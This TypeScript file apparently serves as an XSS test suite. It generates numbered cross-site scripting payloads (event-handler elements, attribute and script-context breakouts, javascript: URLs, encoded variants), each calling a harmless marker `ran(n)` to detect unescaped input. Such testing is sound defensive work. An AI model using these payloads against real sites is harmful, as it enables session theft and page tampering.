/**
 * A script that an attacker types into a field. It calls `ran(n)`, n being its number, wherever a page does not escape
 * it; payloads that no current browser runs would prove nothing.
 */
export interface Payload {
  n: number
  text: string
  /** Whether it still runs beside other payloads in one text. */
  isElement: boolean
}

type Kind = (run: string) => string

const quote = '\u0022'

/** Elements that run a script by themselves. Short where possible, because a name has 50 characters. */
const elements: Kind[] = [
  run => `<script>${run}</script>`,
  run => `<ScRiPt/x>${run}</sCrIpT >`,
  run => `<script type=module>${run}</script>`,
  run => `<script src=data:,${run}></script>`,
  run => `<script src onerror=${run}></script>`,
  run => `<svg><script>${run}</script></svg>`,
  run => `<img src onerror=${run}>`,
  run => `<img/src/onerror=${run}>`,
  run => `<IMG\nSRC\nONERROR\n=\n${run}>`,
  run => `<img src='x'onerror='${run}'>`,
  run => `<img src onerror=&#114;${run.slice(1)}>`,
  run => `<link rel=stylesheet href=data:, onload=${run}>`,
  run => `<svg onload=${run}>`,
  run => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  run => `<svg><a href=javascript:${run}><text y=9>x</text></a></svg>`,
  run => `<svg><foreignObject><img src onerror=${run}></foreignObject></svg>`,
  run => `<math><mi><img src onerror=${run}></mi></math>`,
  run => `<table><img src onerror=${run}></table>`,
  run => `<details open ontoggle=${run}>x</details>`,
  run => `<input autofocus onfocus=${run}>`,
  run => `<select autofocus onfocus=${run}>`,
  run => `<a href autofocus onfocus=${run}>x</a>`,
  run => `<b tabindex=1 autofocus onfocusin=${run}>x</b>`,
  run => `<x contenteditable autofocus onfocus=${run}>x</x>`,
  run => `<input required autofocus onfocus=checkValidity() oninvalid=${run}>`,
  run => `<form action=javascript:${run}><button autofocus onfocus=click()>x</button></form>`,
  run => `<video src onerror=${run}></video>`,
  run => `<video src=x onloadstart=${run}></video>`,
  run => `<video><source onerror=${run}></video>`,
  run => `<body onload=${run}>`,
  run => `<body onpageshow=${run}>`,
  run => `<iframe onload=${run}></iframe>`,
  run => `<iframe srcdoc='<script>parent.${run}</script>'></iframe>`,
  run => `<iframe src=javascript:parent.${run}></iframe>`,
  run => `<iframe src='data:text/html,<script>${run}</script>'></iframe>`,
  run => `<embed src=x onload=${run}>`,
  run => `<style onload=${run}></style>`,
  run => `<style>@keyframes x{}</style><b style=animation:x onanimationstart=${run}>x</b>`,
  run => `<math><mtext><table><mglyph><style><!--</style><img title=${quote}--><img src onerror=${run}>${quote}>`,
  run => `<noscript><p title=${quote}</noscript><img src onerror=${run}>${quote}>`,
  run => `<template shadowrootmode=open><img src onerror=${run}></template>`,
  run => `<a href=javascript:${run}>x</a>`,
  run => `<dialog open><img src onerror=${run}></dialog>`,
  run => `<!--<script>${quote}</script><script>${run}</script>`,
]

/** Closes whatever may be open around an element. */
const closers = ['', '">', "'></textarea></title></script>", '--></style></noscript>']

/** Payloads for other contexts, used unchanged. */
const others: Kind[] = [
  // in an attribute, or breaking out of one
  run => `${quote} autofocus onfocus=${run} x=${quote}`,
  run => `' autofocus onfocus=${run} x='`,
  run => `x onerror=${run} src=x`,
  run => `x${quote}onerror=${run} x=${quote}`,
  run => `//x.test/${quote}onerror=${run}//`,
  // in an address
  run => `javascript:${run}`,
  run => `JaVaScRiPt\t:${run}`,
  run => `java\tscript:${run}`,
  run => `\u0001javascript:${run}`,
  run => `java&Tab;script&colon;${run}`,
  run => `javascript://x.test/%0A${run}`,
  run => `data:text/html,<script>${run}</script>`,
  // breaking out of a script or of a page's data
  run => `</script><script>${run}</script>`,
  run => `${quote};${run}//`,
  run => `';${run}//`,
  run => `'-${run}-'`,
  run => `\\${quote};${run}//`,
  run => `\${${run}}`,
  run => `\`;${run}//`,
  run => `\u2028${run}//`,
  run => `\n${run}//`,
  // encoded, to run if something decodes once too often
  run => `&lt;img src onerror=${run}&gt;`,
  run => `%3Cimg src onerror=${run}%3E`,
  run => `\\u003cimg src onerror=${run}\\u003e`,
]

const kinds = [
  ...closers.flatMap(closer =>
    elements.map(element => ({ write: (run: string) => closer + element(run), isElement: true })),
  ),
  ...others.map(write => ({ write, isElement: false })),
]

export const payloads: Payload[] = kinds.map(({ write, isElement }, n) => ({ n, text: write(`ran(${n})`), isElement }))
